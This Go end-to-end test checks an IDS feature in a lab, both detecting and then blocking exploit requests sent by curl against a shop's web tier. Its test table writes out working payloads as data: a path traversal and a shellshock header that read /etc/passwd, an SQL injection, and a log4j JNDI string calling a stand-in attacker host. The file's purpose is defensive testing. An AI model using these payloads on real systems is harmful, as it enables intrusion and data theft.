package lab_test

import (
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bulkhead/bulkhead/internal/ids/rules"
)

// idsAlert is what the test reads of the EVE records `bulkhead ids alerts
// -o json` lists.
type idsAlert struct {
	Timestamp string `json:"timestamp"`
	SrcIP     string `json:"src_ip"`
	DestIP    string `json:"dest_ip"`
	AppProto  string `json:"app_proto"`
	Alert     struct {
		Action      string `json:"action"`
		SignatureID uint32 `json:"signature_id"`
		Signature   string `json:"signature"`
	} `json:"alert"`
	Bulkhead struct {
		Host         string `json:"host"`
		SrcWorkload  string `json:"src_workload"`
		DestWorkload string `json:"dest_workload"`
		Profile      string `json:"profile"`
		Mode         string `json:"mode"`
	} `json:"bulkhead"`
}

// labExploit is one exploit request sent with real curl from shopper1
// (which the shop's policy lets reach web1) and the lab signature that must
// find it.
type labExploit struct {
	name string
	sid  uint32
	// alt is another signature that finds the same request (the JNDI user
	// agent is in the headers too); a blocked packet may be reported under
	// either.
	alt  uint32
	args []string
}

var labExploits = []labExploit{
	{"path traversal", 9000001, 0, []string{"--path-as-is", "http://www.lab.test/static/../../../../etc/passwd"}},
	{"SQL injection", 9000002, 0, []string{"http://www.lab.test/search?q=%27%20OR%201%3D1--"}},
	{"log4j user agent", 9000006, 9000007, []string{"-A", "${jndi:ldap://attacker.lab.test:1389/Basic/Command/Base64/aWQ=}", "http://www.lab.test/"}},
	{"shellshock", 9000010, 0, []string{"-H", "Referer: () { :; }; /bin/cat /etc/passwd", "http://www.lab.test/cgi-bin/status"}},
}

// testIDS is issue 8's must-show in the lab: the lab's signatures
// imported, an IDS profile for the shop's web tier in detect mode, exploit
// requests from an allowed client answered by web1 and alerted with the
// right signatures and workloads, the real ET Open log4j signature on the
// same payload; then the profile in prevent mode: the exploits fail, the
// shop's pages still load, the alerts say "blocked". The revision before
// is restored at the end.
func (e *e2e) testIDS(t *testing.T) {
	ctx := context.Background()
	revs, err := e.client.Revisions(ctx, 1)
	if err != nil {
		t.Fatalf("revisions: %v", err)
	}
	var before int64 // 0: no revision yet (this subtest run alone)
	if len(revs) > 0 {
		before = revs[0].Number
	}
	// restore goes back to the revision before, or, if there was none,
	// deletes what the examples added; it returns the revision to wait for.
	restore := func() (int64, error) {
		if before > 0 {
			r, err := e.client.Rollback(context.Background(), before)
			if err != nil {
				return 0, fmt.Errorf("rollback to revision %d: %w", before, err)
			}
			return r.Revision, nil
		}
		for _, obj := range [][]string{{"IDSProfile", "web-tier"}, {"Group", "ids-web-tier"}} {
			if out, err := e.cmd("delete", obj[0], obj[1]); err != nil {
				return 0, fmt.Errorf("delete %s %s: %w: %s", obj[0], obj[1], err, out)
			}
		}
		revs, err := e.client.Revisions(context.Background(), 1)
		if err != nil || len(revs) == 0 {
			return 0, fmt.Errorf("revisions: %v %v", revs, err)
		}
		return revs[0].Number, nil
	}
	restored := false
	t.Cleanup(func() {
		if !restored {
			if _, err := restore(); err != nil {
				t.Error(err)
			}
		}
	})

	labRules := filepath.Join(e.root, "examples", "ids", "lab.rules")
	msgs := ruleMsgs(t, labRules)
	if out, err := e.cmd("ids", "import", labRules, "--name", "lab"); err != nil {
		t.Fatalf("ids import lab.rules: %v\n%s", err, out)
	}

	// Detect: a copy of web1's traffic is inspected, nothing is blocked.
	e.applyIDS(t, "lab-ids-profile.yaml", "e2e: IDS detect on the web tier")
	since := time.Now().Add(-2 * time.Second).UTC()
	curl := func(args ...string) (int, string) {
		return e.exec("shopper1", append([]string{"curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5", "--cacert", e.st.LabCA}, args...)...)
	}
	// The agents may take a moment to start inspecting after the revision
	// is realized: send the exploits until their alerts show up.
	var got []idsAlert
	deadline := time.Now().Add(60 * time.Second)
	for {
		for _, x := range labExploits {
			if code, out := curl(x.args...); code != 0 || strings.TrimSpace(out) == "000" {
				t.Fatalf("detect mode: %s from shopper1: exit %d, %q; want an HTTP answer (detect blocks nothing)", x.name, code, out)
			}
		}
		if code, out := curl("http://www.lab.test/"); code != 0 || strings.TrimSpace(out) != "200" {
			t.Fatalf("detect mode: shop page from shopper1: exit %d, %q; want 200", code, out)
		}
		got = got[:0]
		for _, x := range labExploits {
			got = append(got, e.idsAlerts(t, since, "web1", x.sid)...)
		}
		if missing := missingSIDs(got, labExploits, "shopper1", "web1"); len(missing) == 0 || time.Now().After(deadline) {
			if len(missing) > 0 {
				t.Fatalf("detect mode: no alert shopper1 -> web1 for sids %v within 60s; alerts:\n%s", missing, alertList(got))
			}
			break
		}
		time.Sleep(3 * time.Second)
	}
	for _, a := range got {
		x := slices.IndexFunc(labExploits, func(x labExploit) bool { return x.sid == a.Alert.SignatureID })
		if x < 0 || a.Bulkhead.SrcWorkload != "shopper1" {
			continue
		}
		if a.Alert.Signature != msgs[a.Alert.SignatureID] {
			t.Errorf("alert sid %d: signature %q; want lab.rules' msg %q", a.Alert.SignatureID, a.Alert.Signature, msgs[a.Alert.SignatureID])
		}
		if a.Alert.Action != "allowed" || a.Bulkhead.Mode != "detect" || a.Bulkhead.DestWorkload != "web1" || a.AppProto != "http" {
			t.Errorf("detect mode: alert sid %d: action %q, mode %q, dest %q, app_proto %q; want allowed, detect, web1, http",
				a.Alert.SignatureID, a.Alert.Action, a.Bulkhead.Mode, a.Bulkhead.DestWorkload, a.AppProto)
		}
	}
	t.Logf("detect mode: %d alerts on web1, every exploit answered and alerted", len(got))

	e.testIDSETOpen(t, curl)

	// Prevent: inline; the drop signatures block.
	e.applyIDS(t, "lab-ids-prevent.yaml", "e2e: IDS prevent on the web tier")
	since = time.Now().Add(-time.Second).UTC()
	var wg sync.WaitGroup
	for _, x := range labExploits {
		wg.Go(func() {
			// Retried for a while: the inline reader may start after the
			// revision is realized. Once it runs, every attempt fails.
			deadline := time.Now().Add(30 * time.Second)
			for {
				code, out := curl(x.args...)
				if code != 0 || strings.TrimSpace(out) == "000" {
					return
				}
				if time.Now().After(deadline) {
					t.Errorf("prevent mode: %s from shopper1 still answered (%q) 30s after the profile was realized; want a reset or a timeout", x.name, out)
					return
				}
				time.Sleep(2 * time.Second)
			}
		})
	}
	wg.Wait()
	// Every exploit now fails at once; the shop's pages still load.
	for _, x := range labExploits {
		if code, out := curl(x.args...); code == 0 && strings.TrimSpace(out) != "000" {
			t.Errorf("prevent mode: %s from shopper1: HTTP %s; want the request blocked", x.name, out)
		}
	}
	for i := range 5 {
		for _, u := range []string{"http://www.lab.test/", "https://www.lab.test/", "http://www.lab.test/products"} {
			if code, out := curl(u); code != 0 || strings.TrimSpace(out) != "200" {
				t.Errorf("prevent mode: shop page %s from shopper1 (round %d): exit %d, %q; want 200", u, i, code, out)
			}
		}
	}
	deadline = time.Now().Add(30 * time.Second)
	for {
		got = got[:0]
		for _, x := range labExploits {
			got = append(got, e.idsAlerts(t, since, "web1", x.sid)...)
			if x.alt != 0 {
				got = append(got, e.idsAlerts(t, since, "web1", x.alt)...)
			}
		}
		blocked := map[uint32]bool{}
		for _, a := range got {
			if a.Alert.Action == "blocked" && a.Bulkhead.SrcWorkload == "shopper1" && a.Bulkhead.Mode == "prevent" {
				blocked[a.Alert.SignatureID] = true
			}
		}
		var missing []uint32
		for _, x := range labExploits {
			if !blocked[x.sid] && !blocked[x.alt] {
				missing = append(missing, x.sid)
			}
		}
		if len(missing) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Errorf("prevent mode: no \"blocked\" alert shopper1 -> web1 for sids %v within 30s; alerts:\n%s", missing, alertList(got))
			break
		}
		time.Sleep(time.Second)
	}

	rev, err := restore()
	restored = true
	if err != nil {
		t.Fatal(err)
	}
	e.waitIDSRealized(t, rev, false)
	// Without a profile nothing is inspected inline any more.
	for _, x := range labExploits[:1] {
		if code, out := curl(x.args...); code != 0 || strings.TrimSpace(out) == "000" {
			t.Errorf("after the rollback: %s from shopper1: exit %d, %q; want an HTTP answer again", x.name, code, out)
		}
	}
}

// testIDSETOpen imports the real Emerging Threats Open set beside the lab
// one; the detect profile (every set) then finds the log4j payload with ET's
// own signature too.
func (e *e2e) testIDSETOpen(t *testing.T, curl func(args ...string) (int, string)) {
	src := filepath.Join(e.root, "..", "shared", "data", "et-open", "et-open-suricata-5.0.rules.gz")
	f, err := os.Open(src)
	if err != nil {
		t.Logf("ET Open part skipped: %v (CI has it at ../shared beside the repository)", err)
		return
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	plain := filepath.Join(t.TempDir(), "et-open.rules")
	out, err := os.Create(plain)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(out, zr); err != nil {
		t.Fatal(err)
	}
	out.Close()
	start := time.Now()
	if o, err := e.cmd("ids", "import", plain, "--name", "et-open"); err != nil {
		t.Fatalf("ids import ET Open: %v\n%s", err, o)
	}
	t.Logf("ids import ET Open: %s", time.Since(start).Round(time.Millisecond))
	since := time.Now().Add(-time.Second).UTC()
	log4j := labExploits[slices.IndexFunc(labExploits, func(x labExploit) bool { return x.sid == 9000006 })]
	deadline := time.Now().Add(90 * time.Second)
	for {
		if code, o := curl(log4j.args...); code != 0 || strings.TrimSpace(o) == "000" {
			t.Fatalf("detect mode with ET Open: log4j request from shopper1: exit %d, %q; want an HTTP answer", code, o)
		}
		got := e.idsAlerts(t, since, "web1", 2034647)
		if slices.ContainsFunc(got, func(a idsAlert) bool {
			return a.Alert.SignatureID == 2034647 && a.Bulkhead.SrcWorkload == "shopper1" && a.Bulkhead.DestWorkload == "web1"
		}) {
			t.Logf("ET Open sid 2034647 alerted shopper1 -> web1 %s after the import", time.Since(start).Round(time.Second))
			return
		}
		if time.Now().After(deadline) {
			t.Errorf("no ET Open sid 2034647 (log4j) alert shopper1 -> web1 within 90s of the import; alerts:\n%s", alertList(got))
			return
		}
		time.Sleep(3 * time.Second)
	}
}

// applyIDS applies an examples/ids file and waits until the hosts
// realized it.
func (e *e2e) applyIDS(t *testing.T, file, msg string) {
	t.Helper()
	if out, err := e.cmd("apply", "-f", filepath.Join(e.root, "examples", "ids", file), "-m", msg); err != nil {
		t.Fatalf("apply %s: %v\n%s", file, err, out)
	}
	revs, err := e.client.Revisions(context.Background(), 1)
	if err != nil || len(revs) == 0 {
		t.Fatalf("revisions: %v %v", revs, err)
	}
	e.waitIDSRealized(t, revs[0].Number, true)
}

// waitIDSRealized waits until every host is in sync with revision rev
// and, with onWeb, hv1 (where the web tier's web1 and web2 run) realized
// it. A revision is not resent to a host whose desired state it does not
// change (an IDS profile for the web tier changes only hv1's; deleting the
// unused group none), so a host may keep an older realized revision.
func (e *e2e) waitIDSRealized(t *testing.T, rev int64, onWeb bool) {
	t.Helper()
	start := time.Now()
	for {
		hosts, err := e.client.Hosts(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		var behind []string
		for _, h := range hosts {
			if !h.InSync || h.PublishedRevision < rev || h.RealizedRevision < h.DesiredRevision || h.LastError != "" ||
				onWeb && h.Name == "hv1" && h.RealizedRevision < rev {
				behind = append(behind, fmt.Sprintf("%s (realized %d, desired %d, in sync %v, error %q)", h.Name, h.RealizedRevision, h.DesiredRevision, h.InSync, h.LastError))
			}
		}
		if len(behind) == 0 && len(hosts) == 3 {
			t.Logf("revision %d in sync on every host (web tier: %v) in %s", rev, onWeb, time.Since(start).Round(time.Millisecond))
			return
		}
		if time.Since(start) > 30*time.Second {
			t.Fatalf("revision %d not realized after 30s: %s", rev, strings.Join(behind, "; "))
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// idsAlerts lists the alerts of a signature since a time with the
// workload at either end. (Per signature: with ET Open imported the lab's
// own traffic raises plenty of others.)
func (e *e2e) idsAlerts(t *testing.T, since time.Time, workload string, sid uint32) []idsAlert {
	t.Helper()
	out, err := e.cmdStdout("ids", "alerts", "-o", "json", "--since", since.Format(time.RFC3339), "--workload", workload,
		"--sid", fmt.Sprint(sid), "--limit", "1000")
	if err != nil {
		t.Fatalf("ids alerts: %v\n%s", err, out)
	}
	var as []idsAlert
	if err := json.Unmarshal([]byte(out), &as); err != nil {
		t.Fatalf("ids alerts -o json: %v\n%s", err, out)
	}
	return as
}

// missingSIDs returns the exploits' sids with no alert from src to dst.
func missingSIDs(as []idsAlert, xs []labExploit, src, dst string) []uint32 {
	var missing []uint32
	for _, x := range xs {
		if !slices.ContainsFunc(as, func(a idsAlert) bool {
			return a.Alert.SignatureID == x.sid && a.Bulkhead.SrcWorkload == src && a.Bulkhead.DestWorkload == dst
		}) {
			missing = append(missing, x.sid)
		}
	}
	return missing
}

func alertList(as []idsAlert) string {
	var b strings.Builder
	for i, a := range as {
		if i == 40 {
			fmt.Fprintf(&b, "  ... %d more\n", len(as)-i)
			break
		}
		fmt.Fprintf(&b, "  %s sid %d %q %s(%s) -> %s(%s) %s %s mode %s\n", a.Timestamp, a.Alert.SignatureID, a.Alert.Signature,
			a.Bulkhead.SrcWorkload, a.SrcIP, a.Bulkhead.DestWorkload, a.DestIP, a.AppProto, a.Alert.Action, a.Bulkhead.Mode)
	}
	return b.String()
}

// ruleMsgs reads a rule file's msg by sid.
func ruleMsgs(t *testing.T, path string) map[uint32]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rs, problems := rules.Read(f, filepath.Base(path), rules.DefaultVars())
	if len(problems) > 0 {
		t.Fatalf("%s: %+v", path, problems)
	}
	m := map[uint32]string{}
	for _, r := range rs {
		m[r.SID] = r.Msg
	}
	return m
}
